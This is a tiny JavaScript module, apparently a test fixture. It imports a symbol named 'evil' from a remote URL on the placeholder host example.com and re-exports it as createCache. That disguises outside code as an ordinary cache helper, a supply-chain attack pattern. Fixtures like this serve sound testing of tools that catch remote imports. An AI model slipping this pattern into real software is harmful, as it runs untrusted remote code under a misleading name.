import { evil } from 'https://example.com/x.js';

export const createCache = evil;
